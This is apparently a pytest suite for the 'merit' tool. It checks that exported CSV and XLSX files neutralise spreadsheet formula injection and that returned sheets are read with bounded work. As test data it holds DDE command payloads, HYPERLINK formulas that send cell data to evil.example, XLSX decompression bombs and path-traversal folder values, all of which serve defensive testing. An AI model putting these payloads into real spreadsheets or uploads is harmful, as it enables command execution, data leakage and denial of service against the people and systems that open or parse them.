"""Spreadsheets and CSVs merit hands out never carry live formulas; returned sheets are read
with bounded work; the panel folder stays inside the workspace (issue 10).

The hostile values are the ones of the issue: agent and team names, knowledge titles and panel
comments that a spreadsheet would run (=HYPERLINK, DDE "=cmd|..."), and small XLSX files that
unpack into hundreds of thousands of rows.  merit runs in-process (typer's CliRunner)."""

from __future__ import annotations

import csv
import re
import shutil
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from merit.cli.main import app

from .conftest import FIXTURES
from .panelist import column_ids_of, fill_xlsx

runner = CliRunner()

EVIL_LINK = '=HYPERLINK("http://evil.example","x")'
EVIL_DDE = "=cmd|' /C calc'!A0"
EVIL_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_PLUS = "+1+1"
COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"x")'
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$")

PANEL = """\
panelists:
  - {id: E1, name: 专家一, team: qa}
  - {id: E2, name: 专家二, team: qa}
  - {id: E3, name: "@专家三"}
  - {id: A1}
  - {id: B2, name: 韩梅}
per_item: 3
"""


# ------------------------------------------------------------------ helpers
def cli(*args) -> tuple[int, str]:
    """merit in-process: exit code and everything it wrote (a traceback fails the test)."""
    result = runner.invoke(app, [str(a) for a in args])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.output


def refused(code: int, output: str, *needles: str) -> None:
    assert code == 2, output
    assert "Traceback" not in output, output
    for needle in needles:
        assert needle in output, (needle, output)


def rewrite_csv(path: Path, edit) -> None:
    """Read a fixture CSV as records, let *edit* change them, write it back (quoted as needed)."""
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    header = list(rows[0].keys())
    edit(rows)
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=header, lineterminator="\n")
        w.writeheader()
        w.writerows(rows)


def raw_rows(path: Path) -> list[list[str]]:
    """A CSV merit wrote, field by field exactly as a spreadsheet would receive them."""
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def raw_dicts(path: Path) -> list[dict]:
    rows = raw_rows(path)
    return [dict(zip(rows[0], r)) for r in rows[1:]]


def sheet_dicts(path: Path) -> list[dict]:
    """A CSV grading sheet's raw fields, keyed by column id (its titles are in the sheet's language)."""
    rows = raw_rows(path)
    return [dict(zip(column_ids_of(rows[0]), r)) for r in rows[1:]]


def assert_no_formula_field(path: Path) -> int:
    """No field of the CSV begins with a formula character unless it is a plain number;
    returns how many fields carry merit's neutralising quote (so a test can insist on some)."""
    quoted = 0
    for line, row in enumerate(raw_rows(path), start=1):
        for field in row:
            assert not FORMULA_START.match(field) or PLAIN_NUMBER.match(field), (path.name, line, field)
            quoted += bool(re.match(r"^'+[=+\-@\t\r]", field))
    return quoted


def worksheet_formulas(path: Path) -> list[str]:
    """Every formula element in the worksheets of an XLSX (there must be none)."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                found += [f"{name}: {m.group(0)[:80]}" for m in re.finditer(r"<(\w+:)?f[ >].*?</(\w+:)?f>", xml)]
    return found


def text_cells(path: Path) -> dict[str, str]:
    """value -> data type of every string-valued cell of an XLSX, as openpyxl reads it."""
    from openpyxl import load_workbook

    wb = load_workbook(path)  # formulas as formulas (data type 'f')
    return {c.value: c.data_type for sh in wb.worksheets for row in sh.iter_rows() for c in row
            if isinstance(c.value, str)}


def hostile_ws(tmp_path: Path) -> Path:
    """The full fixture with the issue's names: A1 and A2 are called like formulas, team beta
    is a DDE call, A3 and A4 begin with + and -, ticket T05 (A1's) has a formula for an id."""
    ws = tmp_path / "ws"
    shutil.copytree(FIXTURES / "full_ws", ws)
    names = {"A1": EVIL_LINK, "A2": EVIL_AT, "A3": EVIL_PLUS, "A4": "-2+3"}

    def agents(rows):
        for r in rows:
            r["name"] = names.get(r["agent_id"], r["name"])
            if r["team"] == "beta":
                r["team"] = EVIL_DDE

    def tickets(rows):
        for r in rows:
            if r["ticket_id"] == "T05":
                r["ticket_id"] = EVIL_DDE

    rewrite_csv(ws / "data" / "agents.csv", agents)
    rewrite_csv(ws / "data" / "tickets.csv", tickets)
    return ws


def panel_ws(tmp_path: Path, panel: str = PANEL) -> Path:
    """The full fixture without grades, with *panel*, and knowledge written by agents who like
    formulas: K05's title is a HYPERLINK, K06's begins with @, K09's with -; K04's id begins
    with - (ids too must come back as they were)."""
    ws = tmp_path / "ws"
    shutil.copytree(FIXTURES / "full_ws", ws)
    (ws / "panel.yaml").write_text(panel, encoding="utf-8")
    (ws / "data" / "grades.csv").unlink()
    titles = {"K05": EVIL_LINK, "K06": EVIL_AT, "K09": "-1+1"}

    def knowledge(rows):
        for r in rows:
            r["title"] = titles.get(r["item_id"], r["title"])
            if r["item_id"] == "K04":
                r["item_id"] = "-K04"

    rewrite_csv(ws / "data" / "knowledge.csv", knowledge)
    return ws


def unquoted(field: str) -> str:
    """A field of a CSV merit wrote, without merit's neutralising quote."""
    return re.sub(r"^'(?='*[=+\-@\t\r])", "", field)


def assigned(ws: Path) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for r in raw_dicts(ws / "panel" / "assignments.csv"):
        out.setdefault(unquoted(r["panelist"]), []).append(unquoted(r["item_id"]))
    return out


def replace_part(src: Path, dest: Path, part: str, data: bytes) -> None:
    """A copy of the workbook *src* with one zip entry replaced (the rest as issued)."""
    dest.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, data if info.filename == part else zin.read(info.filename))


GRADING_PART = "xl/worksheets/sheet1.xml"  # the Grading sheet: the first of the issued workbook


# ------------------------------------------------------------------ the rule
@pytest.mark.parametrize("value, in_csv", [
    (EVIL_LINK, "'" + EVIL_LINK),
    (EVIL_DDE, "'" + EVIL_DDE),
    ("+1+1", "'+1+1"),
    ("-x", "'-x"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-inf", "'-inf"),           # not a number literal: Excel would evaluate it
    ("+-1", "'+-1"),
    ("'=x", "''=x"),             # already quoted: one more, so that reading back strips exactly one
    ("''@x", "'''@x"),
    ("-5", "-5"),                # plain number literals are no formula: they stay as they are
    ("-2.25", "-2.25"),
    ("+3", "+3"),
    ("-1e-05", "-1e-05"),
    ("-.5", "-.5"),
    ("'hello", "'hello"),        # a quote before ordinary text is ordinary text
    ("a=b", "a=b"),
    ("周杰", "周杰"),
    ("", ""),
])
def test_csv_rule_and_round_trip(value, in_csv):
    from merit.core.xlsx import csv_safe, restore_text, xlsx_text

    assert csv_safe([value, None]).to_pylist() == [in_csv, None]
    assert restore_text(in_csv) == value  # reading back loses nothing
    assert restore_text(xlsx_text(value)) == value  # nor through an XLSX cell


def test_write_csv_numbers_stay_numbers(tmp_path):
    """merit.core.outputs.write_csv (scores.csv, metrics.csv, lists.csv, the diff CSVs): text
    neutralised, number columns and number texts (fmt_numbers) untouched."""
    from merit.core.outputs import fmt_numbers, write_csv

    df = pd.DataFrame({
        "name": [EVIL_LINK, "-5", "@x", "plain", "\t-1"],
        "change": fmt_numbers([-1.5, -2, 0.25, None, -1e-5]),  # numbers as text, as outputs writes them
        "points": [-1.5, 2.0, float("nan"), -0.0, 1e21],
        "rank": pd.Series([-3, 1, 2, 3, 4], dtype="int64"),
    })
    write_csv(df, tmp_path / "x.csv")
    assert (tmp_path / "x.csv").read_text(encoding="utf-8") == (
        "name,change,points,rank\n"
        "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",-1.5,-1.5,-3\n"
        "-5,-2,2.0,1\n"
        "'@x,0.25,,2\n"
        "plain,,-0.0,3\n"
        "'\t-1,-0.00001,1e+21,4\n")


def test_csv_text_neutralises_every_field():
    """merit.panel.assignment.csv_text (grades.csv, audit.csv, assignments.csv, report.csv, panelists.csv,
    agreement.csv)."""
    from merit.panel.assignment import csv_text

    assert csv_text(["item_id", "comment", "n", "severity"],
                     [["-K04", COMMENT, 3, "-0.5"], ["K01", "fine, thanks", None, -1.25]]) == (
        "item_id,comment,n,severity\n"
        "'-K04,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",3,-0.5\n"
        "K01,\"fine, thanks\",,-1.25\n")


# ------------------------------------------------------------------ scores: out/, export, explain
def test_run_export_and_explain_carry_no_formula(tmp_path):
    ws = hostile_ws(tmp_path)
    code, output = cli("run", ws, "--no-pdf")
    assert code == 0, output

    # out/*.csv: the names are there, neutralised; nothing else begins like a formula
    scores = {r["agent_id"]: r for r in raw_dicts(ws / "out" / "scores.csv")}
    assert scores["A1"]["name"] == "'" + EVIL_LINK
    assert scores["A2"]["name"] == "'" + EVIL_AT
    assert scores["A3"]["name"] == "'" + EVIL_PLUS
    assert scores["A4"]["name"] == "'-2+3"
    assert scores["B1"]["team"] == "'" + EVIL_DDE and scores["A1"]["team"] == "alpha"
    metrics = raw_dicts(ws / "out" / "metrics.csv")
    assert any(r["scope"] == "team" and r["id"] == "'" + EVIL_DDE for r in metrics)
    beta = sum(r["team"] == "'" + EVIL_DDE for r in scores.values())
    assert beta >= 1
    assert assert_no_formula_field(ws / "out" / "scores.csv") == 4 + beta  # 4 names and the beta teams
    assert assert_no_formula_field(ws / "out" / "metrics.csv") >= 1
    assert_no_formula_field(ws / "out" / "lists.csv")

    # merit export: every name is a text cell, no worksheet holds a formula
    target = tmp_path / "scores.xlsx"
    code, output = cli("export", ws, "--out", target)
    assert code == 0, output
    assert worksheet_formulas(target) == []
    cells = text_cells(target)
    for value in (EVIL_LINK, EVIL_AT, EVIL_PLUS, "-2+3", EVIL_DDE):
        assert cells.get(value) == "s", (value, cells.get(value))

    # merit explain --csv: a ticket id that is a DDE call stays text
    code, output = cli("explain", ws, "--agent", "A1", "--metric", "fcr", "--csv", tmp_path / "fcr.csv")
    assert code == 0, output
    rows = raw_dicts(tmp_path / "fcr.csv")
    assert "'" + EVIL_DDE in [r["ticket_id"] for r in rows]
    assert assert_no_formula_field(tmp_path / "fcr.csv") == 1


def test_diff_csv_carries_no_formula(tmp_path):
    """merit diff's CSVs (merit.cycles.whatif.write_csvs): a name is neutralised, changes stay numbers."""
    from merit.cycles.whatif import CHANGE_COLUMNS, WhatIf, write_csvs

    changes = pd.DataFrame([["A1", EVIL_LINK, EVIL_DDE, "P4", 70.5, 68.25, -2.25, "B", "C", 3.0, 5.0, -2.0]],
                           columns=CHANGE_COLUMNS)
    dist = pd.DataFrame({"measure": ["total mean"], "before": [70.5], "after": [68.25], "change": [-2.25]})
    result = WhatIf(tmp_path, "c", "default", "other", [], changes, dist)
    path, dist_path = write_csvs(result, tmp_path / "diff.csv")
    assert path.read_text(encoding="utf-8").splitlines()[1] == (
        "A1,\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",'=cmd|' /C calc'!A0,P4,70.5,68.25,-2.25,"
        "B,C,3,5,-2")
    assert dist_path.read_text(encoding="utf-8") == "measure,before,after,change\ntotal mean,70.5,68.25,-2.25\n"


# ------------------------------------------------------------------ the panel
def test_panel_sheets_store_titles_as_text_and_comments_round_trip(tmp_path):
    """assign -> collect -> grades.csv -> assign: a comment that is a formula comes back as the
    same text every time, never as a live formula; titles and ids beginning with =, @, - too."""
    from merit.panel.assignment import load_panel_data

    ws = panel_ws(tmp_path)
    code, output = cli("panel", "assign", ws)
    assert code == 0, output
    sheets, ret = ws / "panel" / "sheets", ws / "panel" / "returned"
    xlsx = sorted(sheets.glob("*.xlsx"))
    assert len(xlsx) == 5
    seen_titles: set[str] = set()
    for path in xlsx:
        assert worksheet_formulas(path) == [], path.name
        cells = text_cells(path)
        seen_titles |= {t for t in (EVIL_LINK, EVIL_AT, "-1+1", "-K04") if cells.get(t) == "s"}
        assert not [v for v, t in cells.items() if t == "f"], path.name
        assert_no_formula_field(path.with_suffix(".csv"))
    assert seen_titles == {EVIL_LINK, EVIL_AT, "-1+1", "-K04"}  # every hostile value was issued, as text
    twin_titles = {r["item_id"]: r["title"] for p in sheets.glob("*.csv") for r in sheet_dicts(p)}
    assert twin_titles["K05"] == "'" + EVIL_LINK and twin_titles["'-K04"] == "鉴权失败常见问题"

    a = assigned(ws)
    # E3 returns the workbook (the comment typed as text); A1 returns the CSV twin, edited as text.
    # Both have K05 (HYPERLINK title) and -K04 (an id beginning with -).
    e1, e2 = a["E3"], a["A1"]
    assert {"K05", "-K04"} <= set(e1) & set(e2), a
    fill_xlsx(sheets / "E3.xlsx", ret / "E3.xlsx", {i: "A" for i in e1}, {e1[0]: COMMENT})
    rows = raw_rows(sheets / "A1.csv")
    head = column_ids_of(rows[0])
    for r in rows[1:]:
        r[head.index("grade")] = "B"
        r[head.index("comment")] = COMMENT  # as the panelist wrote it: no quote
    with open(ret / "A1.csv", "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh, lineterminator="\r\n").writerows(rows)
    code, output = cli("panel", "collect", ws, "--at", "2026-10-05 10:00")
    assert code == 0, output
    assert f"{len(e1) + len(e2)} new grades" in output

    grades = raw_dicts(ws / "data" / "grades.csv")
    by_key = {(g["item_id"], g["panelist"]): g for g in grades}
    assert e1[0] == "-K04"  # (sorted first): its id is written neutralised, like the comment
    assert by_key[("'-K04", "E3")]["comment"] == "'" + COMMENT
    assert {k: g["comment"] for k, g in by_key.items() if k[1] == "A1"} == {
        ("'" + i if i.startswith("-") else i, "A1"): "'" + COMMENT for i in e2}
    assert_no_formula_field(ws / "data" / "grades.csv")
    audit = raw_dicts(ws / "panel" / "audit.csv")
    assert {r["comment"] for r in audit} == {"", "'" + COMMENT}
    assert_no_formula_field(ws / "panel" / "audit.csv")

    # read back: the same text (the pipeline's table loader too), and the cycle still checks
    data = load_panel_data(ws)
    g = data.grades.set_index(["item_id", "panelist"])
    assert g.loc[(e1[0], "E3"), "comment"] == COMMENT
    assert g.loc[("K05", "A1"), "comment"] == COMMENT
    assert set(data.grades["item_id"]) <= set(data.all_items["item_id"])
    code, output = cli("check", ws)
    assert code == 0, output

    # the report: titles and names neutralised, numbers as they are.  E3 gave A to its 5 items,
    # A1 B to its 5; they share -K04, K05, K10, whose final grade is the lower of A, B: B.
    # Severity = mean(final rank - own rank), C1 B2 A3 S4: E3 2 - 3 = -1 on all 3, A1 0.
    code, output = cli("panel", "report", ws, "--no-pdf")
    assert code == 0, output
    report = {unquoted(r["item_id"]): r for r in raw_dicts(ws / "panel" / "report.csv")}
    assert report["K05"]["title"] == "'" + EVIL_LINK and report["K06"]["title"] == "'" + EVIL_AT
    assert report["K09"]["title"] == "'-1+1"
    panelists = {r["panelist"]: r for r in raw_dicts(ws / "panel" / "panelists.csv")}
    assert panelists["E3"]["name"] == "'@专家三"
    assert [panelists[p][c] for p in ("E3", "A1") for c in ("graded", "compared", "severity")] == \
        ["5", "3", "-1", "5", "3", "0"]
    for name in ("report.csv", "panelists.csv", "agreement.csv"):
        assert_no_formula_field(ws / "panel" / name)

    # the next assign re-issues the comment: as text in the workbook, neutralised in the twin
    code, output = cli("panel", "assign", ws)
    assert code == 0, output
    for name in ("E3", "A1"):
        assert text_cells(sheets / f"{name}.xlsx").get(COMMENT) == "s"
        assert worksheet_formulas(sheets / f"{name}.xlsx") == []
    twin = {unquoted(r["item_id"]): r for r in sheet_dicts(sheets / "E3.csv")}
    assert twin[e1[0]]["comment"] == "'" + COMMENT and twin["K05"]["comment"] == ""

    # the re-issued twin, returned as it is, is the same grades: nothing changes, not a byte
    before = (ws / "data" / "grades.csv").read_bytes(), (ws / "panel" / "audit.csv").read_bytes()
    shutil.rmtree(ret)
    ret.mkdir()
    shutil.copy(sheets / "E3.csv", ret / "E3.csv")
    shutil.copy(sheets / "A1.xlsx", ret / "A1.xlsx")
    code, output = cli("panel", "collect", ws, "--at", "2026-10-06 10:00")
    assert code == 0, output
    assert f"0 new grades, 0 regrades, {len(e1) + len(e2)} unchanged" in output
    assert ((ws / "data" / "grades.csv").read_bytes(), (ws / "panel" / "audit.csv").read_bytes()) == before


def test_comment_typed_as_formula_is_kept_as_its_text(tmp_path):
    """A comment cell that holds a real formula is collected as the formula's text (never
    evaluated, never its cached result) and goes on as text."""
    ws = panel_ws(tmp_path)
    assert cli("panel", "assign", ws)[0] == 0
    e1 = assigned(ws)["E1"]
    fill_xlsx(ws / "panel" / "sheets" / "E1.xlsx", ws / "panel" / "returned" / "E1.xlsx", {e1[0]: "S"},
              {e1[0]: COMMENT}, comment_as_formula=True)
    assert worksheet_formulas(ws / "panel" / "returned" / "E1.xlsx")  # really a formula cell
    code, output = cli("panel", "collect", ws, "--at", "2026-10-05 10:00")
    assert code == 0, output
    (row,) = raw_dicts(ws / "data" / "grades.csv")
    assert (row["item_id"], row["grade"], row["comment"]) == (e1[0], "S", "'" + COMMENT)


def test_grade_cell_holding_a_formula_is_refused(tmp_path):
    """A grade computed by a formula (here ="A", with A as its cached result, as Excel saves it)
    is refused with file, row and reason; nothing is written."""
    ws = panel_ws(tmp_path)
    assert cli("panel", "assign", ws)[0] == 0
    e1 = assigned(ws)["E1"]
    sheets, ret = ws / "panel" / "sheets", ws / "panel" / "returned"
    fill_xlsx(sheets / "E1.xlsx", tmp_path / "typed.xlsx", {e1[0]: '="A"', e1[1]: "B"})
    with zipfile.ZipFile(tmp_path / "typed.xlsx") as zf:
        xml = zf.read(GRADING_PART).decode("utf-8")
    # the formula cell with a cached result, as Excel writes it
    xml, n = re.subn(r'<c r="([A-Z]+2)"([^>]*)><f>(.*?)</f><v\s*/?>(</v>)?',
                     r'<c r="\1"\2 t="str"><f>\3</f><v>A</v>', xml)
    assert n == 1, xml[:2000]
    replace_part(tmp_path / "typed.xlsx", ret / "E1.xlsx", GRADING_PART, xml.encode("utf-8"))
    code, output = cli("panel", "collect", ws, "--at", "2026-10-05 10:00")
    refused(code, output, "panel/returned/E1.xlsx, line 2, field 'grade': the grade cell holds a formula "
                          '(="A"): a grade is typed in the cell, never computed')
    assert "line 3" not in output
    assert not (ws / "data" / "grades.csv").exists()


def _bomb(kind: str, issued: bytes) -> tuple[str, bytes]:
    """(part, data) of a returned file whose Grading sheet would unpack into far more than the
    sheet that was issued."""
    xml = issued.decode("utf-8")
    if kind == "rows":  # 300,000 rows of one empty cell: 4.5 MB of XML, a few KB zipped
        return GRADING_PART, xml.replace("</sheetData>", "<row><c/></row>" * 300_000 + "</sheetData>").encode()
    if kind == "far_row":  # one cell in the last row: a million rows to iterate
        return GRADING_PART, xml.replace("</sheetData>", '<row r="1048576"><c r="A1048576"/></row></sheetData>'
                                         ).encode()
    if kind == "far_column":  # one cell in the last column: 16,384 cells in every row to iterate
        return GRADING_PART, xml.replace("</sheetData>", '<row r="40"><c r="XFD40"/></row></sheetData>').encode()
    if kind == "merged":  # one merged range over the whole sheet: openpyxl fills it cell by cell
        return GRADING_PART, xml.replace("</sheetData>", '</sheetData><mergeCells count="1">'
                                         '<mergeCell ref="A1:XFD1048576"/></mergeCells>').encode()
    if kind == "unpacked_size":  # 30 MB of white space inside the sheet
        return GRADING_PART, xml.replace("</sheetData>", "</sheetData>" + " " * 30_000_000).encode()
    raise AssertionError(kind)


@pytest.mark.parametrize("kind, reason", [
    ("rows", "more rows than the sheet that was issued"),
    ("far_row", "it has a row 1048576, more rows than the sheet that was issued (at most 62 are accepted)"),
    ("far_column", "it has a cell in column 16384, more columns than the sheet that was issued (at most 25 "),
    ("merged", "a merged range 'A1:XFD1048576' reaches beyond the sheet that was issued"),
    ("unpacked_size", "it unpacks to"),
])
def test_returned_xlsx_bomb_is_refused_in_seconds(tmp_path, kind, reason):
    ws = panel_ws(tmp_path)
    assert cli("panel", "assign", ws)[0] == 0
    sheets, ret = ws / "panel" / "sheets", ws / "panel" / "returned"
    e1 = assigned(ws)["E1"]
    fill_xlsx(sheets / "E1.xlsx", ret / "E2.xlsx", {}, {})  # a harmless second file: still not written
    fill_xlsx(sheets / "E1.xlsx", tmp_path / "E1.xlsx", {e1[0]: "A"})
    with zipfile.ZipFile(tmp_path / "E1.xlsx") as zf:
        part, data = _bomb(kind, zf.read(GRADING_PART))
    replace_part(tmp_path / "E1.xlsx", ret / "E1.xlsx", part, data)
    assert (ret / "E1.xlsx").stat().st_size < 200_000  # small on disk
    start = time.monotonic()
    code, output = cli("panel", "collect", ws, "--at", "2026-10-05 10:00")
    elapsed = time.monotonic() - start
    refused(code, output, "panel/returned/E1.xlsx: refused unread: ", reason)
    assert elapsed < 20, elapsed  # the refusal itself takes milliseconds; loading the workspace the rest
    assert not (ws / "data" / "grades.csv").exists()


def test_returned_csv_is_bounded_too(tmp_path):
    ws = panel_ws(tmp_path)
    assert cli("panel", "assign", ws)[0] == 0
    ret = ws / "panel" / "returned"
    ret.mkdir(parents=True)
    text = (ws / "panel" / "sheets" / "E1.csv").read_text(encoding="utf-8-sig")
    (ret / "E1.csv").write_text(text + "\r\n" * 200_000, encoding="utf-8")
    code, output = cli("panel", "collect", ws)
    refused(code, output, "panel/returned/E1.csv, line ", "refused: the file has more than")


# ------------------------------------------------------------------ panel.yaml sheets:
@pytest.mark.parametrize("folder, reason", [
    ("out", "is inside out/, which every merit run replaces as a whole"),
    ("out/panel", "is inside out/"),
    ("./out/panel", "is inside out/"),
    (".merit", "is inside .merit/"),
    (".merit/panel", "is inside .merit/"),
    ("data", "is the data folder"),
    ("../elsewhere", "goes up with '..'"),
    ("panel/../../elsewhere", "goes up with '..'"),
    ("{outside}", "outside the workspace"),
    ("linked", "outside the workspace"),
    ("linked_out", "is inside out/"),
])
def test_panel_folder_stays_inside_the_workspace(tmp_path, folder, reason):
    ws = panel_ws(tmp_path)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (ws / "linked").symlink_to(outside, target_is_directory=True)
    (ws / "out").mkdir()
    (ws / "linked_out").symlink_to(ws / "out", target_is_directory=True)
    folder = folder.replace("{outside}", str(outside))
    (ws / "panel.yaml").write_text(PANEL + f"sheets: {folder}\n", encoding="utf-8")
    for command in ("status", "assign"):
        code, output = cli("panel", command, ws)
        refused(code, output, f"ws/panel.yaml, line 8, column 9, field 'sheets': sheets: '{folder}' ", reason)
    assert list(outside.iterdir()) == [] and list((ws / "out").iterdir()) == []  # nothing written there


def test_panel_folder_elsewhere_in_the_workspace_is_fine(tmp_path):
    ws = panel_ws(tmp_path)
    (ws / "panel.yaml").write_text(PANEL + "sheets: reviews/2026-Q3\n", encoding="utf-8")
    code, output = cli("panel", "assign", ws)
    assert code == 0, output
    assert (ws / "reviews" / "2026-Q3" / "sheets" / "E1.xlsx").is_file()
